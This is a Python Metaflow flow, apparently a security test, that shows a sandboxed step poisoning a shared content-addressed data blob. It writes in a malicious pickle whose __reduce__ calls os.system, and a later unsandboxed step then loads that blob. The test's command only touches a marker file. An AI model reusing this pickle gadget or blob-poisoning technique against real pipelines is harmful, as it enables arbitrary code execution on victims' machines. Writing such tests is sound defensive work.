"""A hostile step in a local sandbox (which writes its flow's blobs,
<Flow>/data) rewrites the blob that an earlier run stored for a value every
run of the flow stores, with a pickle that calls os.system. A later run
storing the same value keeps the blob it finds under that address, and its
unsandboxed `end` step, on the launching machine, loads it: the blob's
content must be checked against its address."""

import json
import os
import pickle

from metaflow import FlowSpec, Parameter, sandbox, step


class Payload:
    def __init__(self, command):
        self.command = command

    def __reduce__(self):
        return (os.system, (self.command,))


class HostileBlobFlow(FlowSpec):
    victim = Parameter("victim", default="")
    marker = Parameter("marker", default="/nonexistent/marker")

    @sandbox(backend="local")
    @step
    def start(self):
        self.value = "a value every run of this flow stores"
        if self.victim:
            ds = self._datastore
            root = ds._storage_impl.datastore_root
            with open(os.path.join(root, self.victim)) as f:
                key = json.load(f)["objects"]["value"]
            packed = ds._ca_store._pack_v1(pickle.dumps(Payload("touch " + self.marker)))
            blob = os.path.join(root, "HostileBlobFlow", "data", key[:2], key)
            with open(blob, "wb") as f:
                f.write(packed.getvalue() if hasattr(packed, "getvalue") else packed)
            print("HOSTILE-BLOB-POISONED %s" % key)
        self.next(self.end)

    @step
    def end(self):
        print("HOSTILE-BLOB-END %s" % self.value)


if __name__ == "__main__":
    HostileBlobFlow()
